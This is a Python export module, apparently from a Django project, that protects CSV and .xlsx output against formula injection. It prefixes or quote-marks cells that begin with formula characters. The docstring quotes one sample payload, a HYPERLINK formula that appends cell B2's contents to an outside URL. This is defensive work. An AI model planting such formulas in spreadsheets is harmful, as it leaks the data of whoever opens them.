"""Every spreadsheet and CSV file Duban writes goes through here, so that user text stays text.

A unit's note "=HYPERLINK("http://…"&B2,"…")" must reach the office's spreadsheet as those characters,
never as a live formula (CSV/formula injection). So:

    from duban.core import exports

    writer = exports.csv_writer(response)          # a csv.writer whose cells are neutralised
    writer.writerow([...])

    exports.append(sheet, [...])                   # an openpyxl worksheet row, strings written as text
    ws.append([exports.cell(ws, value) for value in row])   # write-only worksheets

In CSV (which has no types) a cell starting with =, +, -, @, a tab or a carriage return gets a leading
apostrophe, as spreadsheets expect. In .xlsx a string is stored as a string cell with Excel's "quote
prefix", whatever it starts with, so the text is shown as written and stays text when edited.
Numbers, dates and booleans are written as they are.
"""

from __future__ import annotations

import csv
import io

from django.utils.functional import Promise
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def risky(text: str) -> bool:
    """Whether a spreadsheet would read this text as a formula (or strip its first character)."""
    return text[:1] in FORMULA_STARTS


def csv_text(value) -> str:
    """A CSV cell: the value as text, with a leading apostrophe when a spreadsheet would run it."""
    text = "" if value is None else str(value)
    return "'" + text if risky(text) else text


class _SafeWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow([csv_text(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **kwargs):
    """csv.writer(stream) whose every cell goes through csv_text()."""
    return _SafeWriter(csv.writer(stream, **kwargs))


def csv_bytes(rows, bom=True) -> bytes:
    """A whole CSV file (UTF-8, with the BOM Excel needs to read it as UTF-8)."""
    out = io.StringIO()
    csv_writer(out).writerows(rows)
    return (("\ufeff" if bom else "") + out.getvalue()).encode("utf-8")


def xlsx_value(value):
    """A value openpyxl can write: lazy translations made text, control characters it refuses removed."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    return value


def as_text(cell):
    """Make a string cell text for good (openpyxl takes a string starting with = for a formula)."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if risky(cell.value):
            cell.quotePrefix = True
    return cell


def set_value(cell, value):
    """cell.value = value, a string always as text."""
    cell.value = xlsx_value(value)
    return as_text(cell)


def append(sheet, values):
    """sheet.append(values) for an ordinary worksheet, with every string written as text."""
    sheet.append([xlsx_value(value) for value in values])
    for cell in sheet[sheet.max_row]:
        as_text(cell)


def cell(ws, value):
    """A WriteOnlyCell for a write-only worksheet, a string always as text."""
    made = WriteOnlyCell(ws, value=xlsx_value(value))
    return as_text(made)


def xlsx_bytes(book) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
